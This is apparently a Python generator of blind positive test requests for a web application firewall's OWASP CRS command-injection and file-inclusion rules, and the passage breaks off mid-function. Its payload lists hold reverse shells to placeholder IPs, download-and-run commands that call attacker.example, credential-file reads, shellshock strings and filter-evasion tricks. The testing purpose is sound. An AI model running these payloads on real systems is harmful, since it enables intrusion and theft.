"""Blind positive tests for the remote-command-execution, local-file-inclusion and remote-file-inclusion titles
of OWASP CRS 3.3.4 (request rules at paranoia levels 1-2) and the titles CRS 4.x added to those families, with
benign requests that carry the same words innocently.

The angle: a sixteenth author of these titles, who varies WHERE a payload sits more than anyone. For each detection
title the set holds the canonical attack the title names, then one payload per alternative of the title's family
(every command, file, operator, scheme, parameter name or protocol verb the author knows), 12 per title, one
sub-family per title:

- lfi: path-traversal-encoded (930100), path-traversal-decoded (930110), os-file-access (930120),
  restricted-file-access (930130), os-file-access-headers (4.x), path-traversal-triple-dot (4.x)
- rfi: rfi-ip-address (931100), rfi-vulnerable-param-name (931110), rfi-trailing-question-mark (931120),
  rfi-off-domain-link (931130)
- rce: unix-command-injection (932100), unix-command-injection-second (932105), windows-command-injection
  (932110), windows-command-injection-second (932115), windows-powershell-command (932120),
  unix-shell-expression (932130), windows-for-if-command (932140), direct-unix-command (932150),
  unix-shell-code (932160), shellshock-headers (932170), shellshock-args (932171), restricted-file-upload
  (932180), rce-bypass-technique (932200), and from 4.x unix-command-without-evasion, unix-command-evasion,
  unix-shell-alias, unix-shell-history, unix-pipes-short-commands, sqlite-system-command, smtp-command,
  imap-command, pop3-command, windows-command-evasion, unix-shell-code-headers, direct-unix-command-paths

Each payload is sent twice. Once to our real routes, at one of the places a rule of its title reads, rotating
over: query values (`query`) and names (`param-name`) of /api/users, form values (`form`) and names (`form-name`)
of /admin/users/search with its csrf_token, JSON of /api/users at depth 1 to 4 (`json-d1` .. `json-d4`), inside an
array (`json-array`) and as a key (`json-key`), XML element text (`xml`) and attribute values (`xml-attr`),
multipart field values, names and file names (`multipart-field`, `multipart-name`, `multipart-filename`), cookie
values and names (`cookie`, `cookie-name`), request headers (`header:<Name>`), the URL path (`path`: a whole
segment; `path-matrix`: a segment's semicolon parameter; `path-file`: the file at the end), and raw bodies
(`raw-text`, `raw-json`, `raw-form`); a parameter-name=URL pair goes in whole (`query-pair`, `form-pair`,
`json-pair`). Once more the way a WAF's regression suite sends it (placements prefixed `rs-`): to paths that are not
our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under arbitrary parameter names
(foo, var, x, test, id, arg1), as a query string, form, JSON, XML, a raw form-typed body that is not key=value, a
multipart file name, the User-Agent, the Referer, a custom header, a cookie, or the path itself. Each payload is
written as it must appear in its place to work: percent-encoded in a URL (a payload that is already
percent-encoded goes in as it is), escaped in XML, a string in JSON, never a line break in a header.

Authorship and independence: written from general knowledge of each family and the rule titles alone, without
reading any ruleset, rule regression test, public payload list, the WAF's rules or engine, or any other blind
set; measured once on unchanged code and not edited after the measurement. Deterministic (no clock, no
randomness): every record is the same on every run.
"""

from __future__ import annotations

import hashlib
import json
import re
import urllib.parse
from collections.abc import Iterator
from typing import Any
from xml.sax.saxutils import escape, quoteattr

from .family_gen_blind_php import chat_and_bio, links_and_prose
from .records import print_records

NAME = "hundredseventeenth"

UA_REAL = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
           "Chrome/126.0.0.0 Safari/537.36")
UA_RS = "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0"
BOUNDARY = "----WebKitFormBoundaryq3XnB7kT9mZ2aLpd"
PCT = re.compile(r"%[0-9A-Fa-f]{2}|%u[0-9A-Fa-f]{4}")
COOKIE_SAFE = "!#$&'()*+-./:<>?@[]^_`{|}~"

# ---------------------------------------------------------------------------------------------------------------
# Payloads, one list per detection title (category, sub-family, 12 payloads)
# ---------------------------------------------------------------------------------------------------------------

TRAVERSAL_ENCODED = [
    "..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/%2e%2e/etc/hosts",
    "..%5c..%5cwindows%5cwin.ini",
    "%2e%2e%5c%2e%2e%5cboot.ini",
    "..%252f..%252f..%252fetc%252fpasswd",
    "%252e%252e%252fetc%252fpasswd",
    "..%c0%af..%c0%afetc%c0%afpasswd",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "..%u2215..%u2215etc%u2215passwd",
    "%uff0e%uff0e/%uff0e%uff0e/etc/passwd",
    "0x2e0x2e/0x2e0x2e/etc/passwd",
]
TRAVERSAL_DECODED = [
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\system32\\drivers\\etc\\hosts",
    "/var/www/html/../../../etc/shadow",
    "....//....//etc/passwd",
    "..//..//..//etc/hosts",
    "../../../../../../proc/self/cmdline",
    "..\\/..\\/..\\/boot.ini",
    "/..\\../..\\../etc/group",
    "images/../../../app/config.yml",
    ".%2e/.%2e/.%2e/etc/passwd",
    "../../../../etc/passwd%00.jpg",
    "C:\\inetpub\\wwwroot\\..\\..\\windows\\win.ini",
]
OS_FILES = [
    "/etc/passwd",
    "/etc/shadow",
    "/proc/self/environ",
    "c:\\windows\\win.ini",
    "C:\\boot.ini",
    "/root/.ssh/id_rsa",
    "/home/deploy/.bash_history",
    "/etc/group",
    "/var/log/apache2/access.log",
    "/proc/version",
    "c:/windows/system32/config/sam",
    "/etc/mysql/my.cnf",
]
RESTRICTED_FILES = [
    "/.env",
    "/.git/config",
    "/.git/HEAD",
    "/.svn/entries",
    "/.htaccess",
    "/.htpasswd",
    "/web.config",
    "/wp-config.php",
    "/.DS_Store",
    "/.aws/credentials",
    "/.npmrc",
    "/.hg/hgrc",
]
OS_FILES_HEADERS = [
    "/etc/passwd",
    "/proc/self/environ",
    "C:\\Windows\\win.ini",
    "/etc/group",
    "/home/ubuntu/.ssh/authorized_keys",
    "/proc/self/fd/2",
    "/var/log/nginx/error.log",
    "c:\\boot.ini",
    "/etc/issue",
    "/root/.bash_history",
    "/windows/system32/drivers/etc/hosts",
    "/usr/local/apache2/conf/httpd.conf",
]
TRAVERSAL_TRIPLE_DOT = [
    ".../.../.../etc/passwd",
    "/.../.../.../.../windows/win.ini",
    "...\\...\\...\\boot.ini",
    "%2e%2e%2e/%2e%2e%2e/etc/passwd",
    "..../..../..../etc/hosts",
    ".../...//.../etc/shadow",
    "....\\....\\windows\\system.ini",
    "/static/.../.../.../proc/self/environ",
    "...%2f...%2f...%2fetc%2fgroup",
    "..%2e/..%2e/etc/passwd",
    "...%5c...%5cwindows%5cwin.ini",
    "assets/.../.../config/database.yml",
]

RFI_IP = [
    "http://203.0.113.10/shell.txt",
    "https://198.51.100.7/backdoor.php",
    "ftp://192.0.2.33/pub/c99.txt",
    "ftps://203.0.113.77/x.txt",
    "file://10.0.0.5/share/inc.php",
    "HTTP://198.51.100.23:8080/r57.txt",
    "http://192.0.2.1/?cmd=id",
    "http://203.0.113.200/inc/config.php?",
    "https://198.51.100.9:443/payload.txt%00",
    "hTtP://192.0.2.55/evil.php",
    "http://[2001:db8::1]/shell.txt",
    "ftp://anonymous@203.0.113.4/x.txt",
]
RFI_PARAM_NAMES = [
    "mosConfig_absolute_path=http://attacker.example/shell.txt?",
    "_CONF[path]=https://attacker.example/c99.txt",
    "_SERVER[DOCUMENT_ROOT]=ftp://attacker.example/x.txt",
    "GALLERY_BASEDIR=http://attacker.example/r57.txt",
    "path[docroot]=http://attacker.example/inc.txt",
    "appserv_root=https://attacker.example/evil.txt",
    "config[root_dir]=ftps://attacker.example/x.php",
    "include=http://attacker.example/a.txt",
    "page=http://attacker.example/shell.txt",
    "file=https://attacker.example/inc.php",
    "template=http://attacker.example/tpl.txt",
    "phpbb_root_path=http://attacker.example/x.txt",
]
RFI_QUESTION = [
    "http://attacker.example/shell.txt?",
    "https://attacker.example/c99.php?",
    "ftp://attacker.example/pub/r57.txt?",
    "ftps://attacker.example/x.txt?",
    "file://attacker.example/share/inc.txt?",
    "http://attacker.example/inc.txt??",
    "HTTPS://ATTACKER.EXAMPLE/EVIL.TXT?",
    "http://attacker.example/shell.txt?cmd=id?",
    "http://attacker.example:8080/kit/payload.php?",
    "https://user@attacker.example/a.txt?",
    "http://attacker.example/%73hell.txt?",
    "https://cdn.attacker.example/x.js?",
]
RFI_OFF_DOMAIN = [
    "http://attacker.example/shell.txt",
    "https://evil.example.net/payload.php",
    "ftp://files.attacker.example/x.txt",
    "ftps://attacker.example/inc.txt",
    "file://attacker.example/share/x.php",
    "http://attacker.example:8000/r.php",
    "https://attacker.example/?q=1",
    "http://localhost.attacker.example/x",
    "https://raw.githubusercontent.example/acme/kit/main/x.php",
    "http://xn--80ak6aa92e.example/inc.txt",
    "HTTPS://Attacker.Example/Kit.txt",
    "http://user:pw@attacker.example/x.txt",
]

UNIX_CMD = [
    ";id",
    "; cat /etc/passwd",
    "| uname -a",
    "|| whoami",
    "&& ls -la /",
    "& ping -c 4 203.0.113.5",
    "`id`",
    "127.0.0.1; nc -e /bin/sh 203.0.113.5 4444",
    "foo;wget http://attacker.example/x -O /tmp/x",
    "x|curl http://attacker.example/s.sh|sh",
    "$(whoami)",
    "name\ncat /etc/hosts",
]
UNIX_CMD_SECOND = [
    "; ps aux",
    "| tail -n 50 /var/log/syslog",
    "&& python -c 'import pty;pty.spawn(\"/bin/sh\")'",
    "; perl -e 'print 1'",
    "|| ruby -e 'exec \"sh\"'",
    "; telnet 203.0.113.5 23",
    "| xterm -display 203.0.113.5:1",
    "; rm -rf /tmp/cache",
    "&& useradd -o -u 0 backdoor",
    "; chmod 777 /var/www",
    "| tftp -i 203.0.113.5 GET x",
    "; socat tcp:203.0.113.5:4444 exec:sh",
]
WIN_CMD = [
    "& dir c:\\",
    "| type c:\\windows\\win.ini",
    "&& net user",
    "; ipconfig /all",
    "| systeminfo",
    "& whoami /priv",
    "&& cmd /c ver",
    "| tasklist /v",
    "& net localgroup administrators",
    "|| certutil -urlcache -split -f http://attacker.example/x.exe x.exe",
    "& reg query HKLM\\SAM",
    "| copy \\\\attacker.example\\share\\nc.exe %TEMP%",
]
WIN_CMD_SECOND = [
    "& wmic process call create calc.exe",
    "| netstat -ano",
    "&& schtasks /create /tn x /tr calc.exe /sc once /st 00:00",
    "& sc query",
    "| bitsadmin /transfer x http://attacker.example/x.exe c:\\x.exe",
    "& rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication\"",
    "| mshta http://attacker.example/x.hta",
    "&& regsvr32 /s /n /u /i:http://attacker.example/x.sct scrobj.dll",
    "& nslookup attacker.example",
    "| findstr /si pwd *.xml",
    "& attrib +h c:\\x",
    "|| taskkill /f /im av.exe",
]
POWERSHELL = [
    "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://attacker.example/a.ps1')\"",
    "Invoke-Expression (iwr http://attacker.example/p)",
    "powershell.exe -EncodedCommand SQBFAFgA",
    "Start-Process calc.exe",
    "Get-ChildItem C:\\Users -Recurse",
    "Invoke-WebRequest -Uri http://attacker.example/x -OutFile x.exe",
    "Get-Content C:\\Windows\\win.ini",
    "Set-MpPreference -DisableRealtimeMonitoring $true",
    "Get-WmiObject Win32_Process",
    "New-Object System.Net.Sockets.TCPClient('203.0.113.5',4444)",
    "pwsh -c Get-Process",
    "Remove-Item -Recurse -Force C:\\inetpub",
]
SHELL_EXPR = [
    "$(id)",
    "cat${IFS}/etc/passwd",
    "`uname -a`",
    "<(curl http://attacker.example/x)",
    ">(nc 203.0.113.5 4444)",
    "$((7*7))",
    "${HOME}",
    "$(echo aWQ=|base64 -d)",
    "echo `cat /etc/hostname`",
    "${PATH:0:1}",
    "$(</etc/passwd)",
    "$(sleep${IFS}5)",
]
WIN_FOR_IF = [
    "for /f \"tokens=*\" %i in ('whoami') do @echo %i",
    "for %i in (*.*) do type %i",
    "for /l %x in (1,1,10) do ping -n 1 203.0.113.%x",
    "for /r c:\\ %f in (*.config) do type %f",
    "for /d %d in (c:\\users\\*) do dir %d",
    "if exist c:\\windows\\win.ini type c:\\windows\\win.ini",
    "if not exist c:\\x.txt echo pwned > c:\\x.txt",
    "if defined USERNAME echo %USERNAME%",
    "if errorlevel 1 shutdown /r",
    "if %PROCESSOR_ARCHITECTURE%==AMD64 calc.exe",
    "&for /f %a in ('ver') do echo %a",
    "| FOR /F \"delims=\" %%A IN ('hostname') DO @echo %%A",
]
DIRECT_UNIX = [
    "cat /etc/passwd",
    "wget http://attacker.example/x.sh",
    "curl -o /tmp/x http://attacker.example/x",
    "nc -lvp 4444 -e /bin/bash",
    "uname -a",
    "id",
    "ls -la /var/www",
    "bash -c 'id'",
    "python -c 'import os;os.system(\"id\")'",
    "perl -e 'system(\"id\")'",
    "whoami",
    "ping -c 5 203.0.113.5",
]
SHELL_CODE = [
    "/bin/sh",
    "/bin/bash -i",
    "/usr/bin/id",
    "/bin/cat /etc/passwd",
    "/usr/bin/wget http://attacker.example/x",
    "/usr/bin/curl http://attacker.example/x",
    "/bin/nc 203.0.113.5 4444",
    "/usr/bin/python3 -c 'print(1)'",
    "/bin/zsh",
    "/usr/bin/perl -e 'exec \"/bin/sh\"'",
    "/sbin/ifconfig",
    "/usr/local/bin/php -r 'system(\"id\");'",
]
SHELLSHOCK_HEADERS = [
    "() { :; }; /bin/bash -c 'id'",
    "() { :;}; echo; /usr/bin/id",
    "() { _; } >_[$($())] { id; }",
    "() { :; }; /bin/cat /etc/passwd",
    "() { ignored; }; /usr/bin/wget http://attacker.example/x",
    "(){ :; }; ping -c 1 203.0.113.5",
    "() { :; }; sleep 10",
    "() {:;}; /bin/sh -c 'nc 203.0.113.5 4444'",
    "() { x; }; echo vulnerable",
    "() { :; }; curl http://attacker.example/$(whoami)",
    "() {  :; } ; /bin/uname -a",
    "() { :; }; exec 3<>/dev/tcp/203.0.113.5/80",
]
SHELLSHOCK_ARGS = [
    "() { :; }; /bin/id",
    "() { :;}; /bin/bash -c \"cat /etc/passwd\"",
    "() { foo; }; echo Content-Type: text/plain; echo; id",
    "() { :; }; /usr/bin/env",
    "() { :; }; rm -f /tmp/x",
    "() { :; }; /bin/sh -i >& /dev/tcp/203.0.113.5/4444 0>&1",
    "() { a; }; wget -O /tmp/x http://attacker.example/x",
    "() { :; }; echo $(</etc/shadow)",
    "(){ :; }; uname",
    "() { :; } ; /usr/bin/whoami",
    "() { test; }; cat /proc/self/environ",
    "() { :; }; export X=1; id",
]
RESTRICTED_UPLOADS = [
    ".htaccess",
    "web.config",
    ".htpasswd",
    ".user.ini",
    ".bashrc",
    ".bash_profile",
    "php.ini",
    ".profile",
    ".ssh/authorized_keys",
    "httpd.conf",
    ".gitconfig",
    ".zshrc",
]
BYPASS = [
    "c''a''t /etc/passwd",
    "c\"a\"t /etc/passwd",
    "w\\h\\o\\a\\m\\i",
    "/???/c?t /???/p?ss??",
    "/b[i]n/c[a]t /e[t]c/passwd",
    "cat$@ /etc/pa$@sswd",
    "who$()ami",
    "c${x}at /etc/hosts",
    "l\\s -la",
    "/bin/c*t /etc/pass*",
    "ca''t${IFS}/etc/shadow",
    "{cat,/etc/passwd}",
]
UNIX_NO_EVASION = [
    ";cat /etc/passwd",
    "|ls /",
    "&&uname -a",
    "; env",
    "| printenv",
    "; hostname",
    "&& find / -perm -4000",
    "; awk 'BEGIN{system(\"id\")}'",
    "| base64 /etc/shadow",
    "; dd if=/etc/passwd",
    "|| getent passwd",
    "; sudo -l",
]
UNIX_EVASION = [
    ";c\\at /etc/passwd",
    "|w'h'o'a'm'i",
    ";/bin/c${u}at /etc/passwd",
    "&&ca$@t /etc/hosts",
    ";{ls,-la,/}",
    ";cat</etc/passwd",
    ";cat${IFS}/etc/passwd",
    ";cat$IFS$9/etc/passwd",
    "|u\"n\"a\"m\"e -a",
    ";$(printf '\\151\\144')",
    "; X=$'cat\\x20/etc/passwd'&&$X",
    ";/usr/bin/i?",
]
SHELL_ALIAS = [
    "alias ls='rm -rf /'",
    "; alias x=id; x",
    "|alias cat=nc",
    "&& unalias -a",
    "alias sudo='sudo '",
    "; alias -p",
    "`alias l=ls`",
    "$(alias w=whoami)",
    "; \\alias ll='ls -la'",
    "alias x='curl http://attacker.example/s|sh'",
    "| alias;",
    "; builtin alias cd=id",
]
SHELL_HISTORY = [
    "; !!",
    "!-1",
    "; history",
    "| history -c",
    "!$",
    "; !ls",
    "!?cat?",
    "^foo^id",
    "; fc -l",
    "&& cat ~/.bash_history",
    "!#:0",
    "; history | grep pass",
]
PIPES_SHORT = [
    "| id",
    "|ls",
    "| ps",
    "|nc 203.0.113.5 80",
    "| sh",
    "|df -h",
    "| w",
    "|du -sh /",
    "| dd if=/dev/zero",
    "|cut -d: -f1 /etc/passwd",
    "| awk '{print}'",
    "|tac /etc/passwd",
]
SQLITE_CMD = [
    ".system id",
    ".shell cat /etc/passwd",
    "x\n.shell id",
    "'; .shell ls; --",
    ".import /etc/passwd users",
    ".output /tmp/x.php",
    ".once |id",
    "ATTACH DATABASE '/var/www/shell.php' AS x;",
    "select load_extension('/tmp/evil.so')",
    ".read /tmp/cmds.sql",
    ".load /tmp/evil",
    ".system curl http://attacker.example/x",
]
SMTP_CMD = [
    "HELO attacker.example",
    "EHLO attacker.example",
    "MAIL FROM:<a@attacker.example>",
    "RCPT TO:<victim@example.org>",
    "DATA",
    "VRFY root",
    "EXPN admins",
    "QUIT",
    "STARTTLS",
    "AUTH LOGIN",
    "test\r\nMAIL FROM:<x@attacker.example>\r\nRCPT TO:<y@example.org>\r\nDATA\r\n",
    "ETRN #example.org",
]
IMAP_CMD = [
    "a001 LOGIN user pass",
    "a002 SELECT INBOX",
    "a003 FETCH 1:* (BODY[])",
    "a004 LIST \"\" *",
    "a005 EXAMINE INBOX",
    "a006 STORE 1 +FLAGS (\\Deleted)",
    "a007 COPY 1:* Trash",
    "a008 CREATE exfil",
    "a009 DELETE INBOX",
    "a010 RENAME INBOX old",
    "a011 UID FETCH 1:* (RFC822)",
    "x\r\na012 CAPABILITY\r\n",
]
POP3_CMD = [
    "USER admin",
    "PASS hunter2",
    "STAT",
    "LIST",
    "RETR 1",
    "DELE 1",
    "TOP 1 10",
    "UIDL",
    "APOP admin c4c9334bac560ecc979e58001b3e22fb",
    "CAPA",
    "RSET",
    "x\r\nRETR 1\r\nQUIT\r\n",
]
WIN_EVASION = [
    "& c^m^d /c whoami",
    "| w^h^o^a^m^i",
    "&&cmd.exe /c \"dir\"",
    "& %COMSPEC% /c ver",
    "|p^o^w^e^r^s^h^e^l^l -c Get-Process",
    "& c\"\"md /c dir",
    "&cmd,/c,whoami",
    "& set x=who&&set y=ami&&call %x%%y%",
    "| %SystemRoot%\\System32\\cmd.exe /c type c:\\windows\\win.ini",
    "& powershell -enc dwBoAG8AYQBtAGkA",
    "& Po^wEr^sHe^lL.exe -nop -c iex(iwr http://attacker.example/x)",
    "& cmd /v:on /c \"set x=whoami&&!x!\"",
]
SHELL_CODE_HEADERS = [
    "/bin/bash -c id",
    "/usr/bin/curl http://attacker.example/x",
    "/bin/sh -i",
    "/bin/cat /etc/shadow",
    "/usr/bin/wget -qO- http://attacker.example/x|sh",
    "/bin/nc -e /bin/sh 203.0.113.5 4444",
    "/usr/bin/python -c 'import os;os.system(\"id\")'",
    "/bin/busybox telnetd -l /bin/sh",
    "/usr/bin/perl -e 'print 1'",
    "/bin/zsh -c whoami",
    "/usr/bin/nohup /tmp/x &",
    "/bin/chmod +x /tmp/x",
]
DIRECT_PATHS = [
    "/bin/cat /etc/passwd",
    "/usr/bin/id",
    "/bin/c?t /etc/p?sswd",
    "/???/??t /???/p??s??",
    "/usr/bin/wh*ami",
    "/bin/l[s] -la",
    "/usr/sbin/useradd x",
    "/usr/bin/env bash",
    "/b*/ca* /e*/pas*",
    "/usr/local/bin/node -e 'require(\"child_process\").exec(\"id\")'",
    "/bin/uname -a",
    "/usr/bin/find / -name id_rsa",
]

# ---------------------------------------------------------------------------------------------------------------
# Where each title's rule reads: rotations of real-route placements and of regression-suite placements
# ---------------------------------------------------------------------------------------------------------------

ARGS_ALL = ["query", "form", "json-d1", "param-name", "xml", "cookie", "json-d3", "multipart-field", "form-name",
            "json-array", "cookie-name", "json-d4", "xml-attr", "json-key", "json-d2", "multipart-name",
            "raw-json", "raw-form"]
ARGS_ONLY = ["query", "form", "json-d1", "json-d2", "xml", "multipart-field", "json-d3", "json-array", "xml-attr",
             "json-d4", "raw-json", "query", "form", "param-name", "cookie"]
TRAVERSAL = ["path", "query", "header:Referer", "param-name", "form", "json-d2", "xml-attr", "cookie", "path-matrix",
             "header:X-Original-URL", "multipart-field", "json-array", "header:User-Agent", "json-key",
             "cookie-name", "raw-text", "multipart-filename", "json-d4", "xml"]
HEADERS = ["header:User-Agent", "header:Referer", "cookie", "header:X-Forwarded-Host", "header:X-Api-Version",
           "header:Accept-Language", "header:From", "header:X-Original-URL", "header:Via", "cookie-name",
           "header:X-Client-Info", "header:Accept"]
SHELLSHOCK = ["header:User-Agent", "header:Referer", "header:Cookie", "header:Accept", "header:X-Api-Version",
              "header:Accept-Language", "header:X-Forwarded-For", "header:Cookie2", "header:From", "header:Via",
              "header:X-Client-Info", "header:Accept-Encoding"]
SHELLSHOCK_ARGS_PLACES = ["query", "param-name", "form", "form-name", "json-d1", "multipart-field", "multipart-name",
                          "multipart-filename", "xml", "json-d3", "json-array", "json-key"]
FILE_PATHS = ["path-file"]
UPLOADS = ["multipart-filename", "header:X-Filename", "multipart-filename", "header:X-File-Name",
           "multipart-filename", "header:X_Filename"]
PAIRS = ["query-pair", "form-pair", "query-pair", "form-pair", "json-pair"]
CMD_MIXED = ARGS_ALL + ["header:User-Agent", "header:Referer", "path", "path-matrix", "raw-text"]

RS_ARGS = ["rs-query", "rs-form", "rs-json", "rs-xml", "rs-cookie", "rs-param-name", "rs-raw-form"]
RS_ARGS_ONLY = ["rs-query", "rs-form", "rs-json", "rs-xml", "rs-query", "rs-raw-form"]
RS_TRAVERSAL = ["rs-query", "rs-path", "rs-referer", "rs-header", "rs-form", "rs-json", "rs-xml", "rs-cookie",
                "rs-ua", "rs-raw-form", "rs-param-name"]
RS_HEADERS = ["rs-ua", "rs-referer", "rs-header", "rs-cookie"]
RS_PATHS = ["rs-path"]
RS_UPLOADS = ["rs-multipart-filename", "rs-header"]
RS_PAIRS = ["rs-query-pair", "rs-form-pair", "rs-raw-form"]
RS_CMD_MIXED = RS_ARGS + ["rs-ua", "rs-referer", "rs-header"]

LFI_NAMES = ["file", "path", "template", "doc", "page", "attachment", "filename", "lang"]
RFI_NAMES = ["url", "page", "include", "src", "homepage", "callback", "template", "feed"]
RCE_NAMES = ["host", "cmd", "q", "ip", "name", "target", "domain", "exec", "query", "title"]

# (category, sub-family, payloads, real-route placements, regression-suite placements, parameter names)
TITLES: list[tuple[str, str, list[str], list[str], list[str], list[str]]] = [
    ("lfi", "path-traversal-encoded", TRAVERSAL_ENCODED, TRAVERSAL, RS_TRAVERSAL, LFI_NAMES),
    ("lfi", "path-traversal-decoded", TRAVERSAL_DECODED, TRAVERSAL, RS_TRAVERSAL, LFI_NAMES),
    ("lfi", "os-file-access", OS_FILES, ARGS_ALL, RS_ARGS, LFI_NAMES),
    ("lfi", "restricted-file-access", RESTRICTED_FILES, FILE_PATHS, RS_PATHS, LFI_NAMES),
    ("lfi", "os-file-access-headers", OS_FILES_HEADERS, HEADERS, RS_HEADERS, LFI_NAMES),
    ("lfi", "path-traversal-triple-dot", TRAVERSAL_TRIPLE_DOT, TRAVERSAL, RS_TRAVERSAL, LFI_NAMES),
    ("rfi", "rfi-ip-address", RFI_IP, ARGS_ONLY, RS_ARGS_ONLY, RFI_NAMES),
    ("rfi", "rfi-vulnerable-param-name", RFI_PARAM_NAMES, PAIRS, RS_PAIRS, RFI_NAMES),
    ("rfi", "rfi-trailing-question-mark", RFI_QUESTION, ARGS_ONLY, RS_ARGS_ONLY, RFI_NAMES),
    ("rfi", "rfi-off-domain-link", RFI_OFF_DOMAIN, ARGS_ONLY, RS_ARGS_ONLY, RFI_NAMES),
    ("rce", "unix-command-injection", UNIX_CMD, ARGS_ALL, RS_ARGS, RCE_NAMES),
    ("rce", "unix-command-injection-second", UNIX_CMD_SECOND, ARGS_ALL, RS_ARGS, RCE_NAMES),
    ("rce", "windows-command-injection", WIN_CMD, ARGS_ALL, RS_ARGS, RCE_NAMES),
    ("rce", "windows-command-injection-second", WIN_CMD_SECOND, ARGS_ALL, RS_ARGS, RCE_NAMES),
    ("rce", "windows-powershell-command", POWERSHELL, ARGS_ALL, RS_ARGS, RCE_NAMES),
    ("rce", "unix-shell-expression", SHELL_EXPR, ARGS_ALL, RS_ARGS, RCE_NAMES),
    ("rce", "windows-for-if-command", WIN_FOR_IF, ARGS_ALL, RS_ARGS, RCE_NAMES),
    ("rce", "direct-unix-command", DIRECT_UNIX, ARGS_ALL, RS_ARGS, RCE_NAMES),
    ("rce", "unix-shell-code", SHELL_CODE, ARGS_ALL, RS_ARGS, RCE_NAMES),
    ("rce", "shellshock-headers", SHELLSHOCK_HEADERS, SHELLSHOCK, RS_HEADERS, RCE_NAMES),
    ("rce", "shellshock-args", SHELLSHOCK_ARGS, SHELLSHOCK_ARGS_PLACES, RS_ARGS, RCE_NAMES),
    ("rce", "restricted-file-upload", RESTRICTED_UPLOADS, UPLOADS, RS_UPLOADS, RCE_NAMES),
    ("rce", "rce-bypass-technique", BYPASS, ARGS_ALL, RS_ARGS, RCE_NAMES),
    ("rce", "unix-command-without-evasion", UNIX_NO_EVASION, CMD_MIXED, RS_CMD_MIXED, RCE_NAMES),
    ("rce", "unix-command-evasion", UNIX_EVASION, CMD_MIXED, RS_CMD_MIXED, RCE_NAMES),
    ("rce", "unix-shell-alias", SHELL_ALIAS, CMD_MIXED, RS_CMD_MIXED, RCE_NAMES),
    ("rce", "unix-shell-history", SHELL_HISTORY, CMD_MIXED, RS_CMD_MIXED, RCE_NAMES),
    ("rce", "unix-pipes-short-commands", PIPES_SHORT, CMD_MIXED, RS_CMD_MIXED, RCE_NAMES),
    ("rce", "sqlite-system-command", SQLITE_CMD, ARGS_ALL, RS_ARGS, RCE_NAMES),
    ("rce", "smtp-command", SMTP_CMD, ARGS_ALL, RS_ARGS, RCE_NAMES),
    ("rce", "imap-command", IMAP_CMD, ARGS_ALL, RS_ARGS, RCE_NAMES),
    ("rce", "pop3-command", POP3_CMD, ARGS_ALL, RS_ARGS, RCE_NAMES),
    ("rce", "windows-command-evasion", WIN_EVASION, CMD_MIXED, RS_CMD_MIXED, RCE_NAMES),
    ("rce", "unix-shell-code-headers", SHELL_CODE_HEADERS, HEADERS, RS_HEADERS, RCE_NAMES),
    ("rce", "direct-unix-command-paths", DIRECT_PATHS, CMD_MIXED, RS_CMD_MIXED, RCE_NAMES),
]

RS_GET_PATHS = ["/", "/index.php", "/get", "/search", "/api/v1/items", "/cgi-bin/test.cgi"]
RS_POST_PATHS = ["/post", "/", "/index.php", "/api/v1/items", "/cgi-bin/test.cgi", "/search"]
RS_NAMES = ["foo", "var", "x", "test", "id", "arg1"]
RS_HEADER_NAMES = ["X-Custom", "X-Test", "X-Foo", "X-Payload"]
REAL_PATH_PREFIXES = ["/api/", "/admin/", "/me/", "/api/users/42/", "/oauth/", "/auth/slack/", "/api/files/",
                      "/admin/assets/"]
RS_PATH_PREFIXES = ["", "/app", "/static", "/cgi-bin", "/wordpress", "/site"]
PATH_SUFFIXES = ["", "", "?v=1", ";jsessionid=8F2C1A", "", "?download=true", ";x=1", ""]

# ---------------------------------------------------------------------------------------------------------------
# Encoders: a payload as it must appear in each place
# ---------------------------------------------------------------------------------------------------------------


def url_enc(p: str, safe: str = "") -> str:
    """Percent-encoded for a URL; a payload that is already percent-encoded keeps its escapes as they are."""
    return urllib.parse.quote(p, safe=safe + ("%" if PCT.search(p) else ""))


def cookie_enc(p: str) -> str:
    """A cookie name or value: separators, blanks, quotes and control characters percent-encoded."""
    return urllib.parse.quote(p, safe=COOKIE_SAFE + ("%" if PCT.search(p) else ""))


def part_name(p: str) -> str:
    """A multipart name or filename parameter as a browser writes it (quote and line breaks encoded)."""
    return p.replace("\r", "%0D").replace("\n", "%0A").replace('"', "%22")


def token(n: int) -> str:
    return hashlib.sha256(f"{NAME}-{n}".encode()).hexdigest()[:32]


def real_headers(n: int, accept: str = "application/json, text/plain, */*") -> dict[str, str]:
    return {"User-Agent": UA_REAL, "Accept": accept, "Accept-Language": "en-US,en;q=0.9",
            "Accept-Encoding": "gzip, deflate, br", "Referer": "https://app.example.com/admin/users",
            "Cookie": f"session={token(n)}; consent=accepted"}


def rs_headers() -> dict[str, str]:
    return {"User-Agent": UA_RS, "Accept": "*/*"}


def multipart(fields: list[tuple[str, str]], file_name: str, file_field: str = "avatar") -> str:
    parts = []
    for k, v in fields:
        parts.append(f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"{k}\"\r\n\r\n{v}\r\n")
    parts.append(f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"{file_field}\"; filename=\"{file_name}\""
                 f"\r\nContent-Type: application/octet-stream\r\n\r\nhello world\r\n")
    return "".join(parts) + f"--{BOUNDARY}--\r\n"


def _req(method: str, uri: str, headers: dict[str, str], body: str = "",
         content_type: str | None = None) -> dict[str, Any]:
    if content_type:
        headers = {**headers, "Content-Type": content_type}
    return {"method": method, "uri": uri, "body": body, "headers": headers}


def real_place(place: str, p: str, name: str, n: int, i: int) -> dict[str, Any]:
    """The payload at one place of our real routes."""
    h = real_headers(n)
    form_ct = "application/x-www-form-urlencoded"
    if place == "query":
        return _req("GET", f"/api/users?page={1 + i % 3}&{name}={url_enc(p)}&per_page=20", h)
    if place == "param-name":
        return _req("GET", f"/api/users?{url_enc(p)}=1&page=1", h)
    if place == "form":
        body = urllib.parse.urlencode([("csrf_token", token(n + 7)), (name, p)])
        return _req("POST", "/admin/users/search", {**h, "Accept": "text/html"}, body, form_ct)
    if place == "form-name":
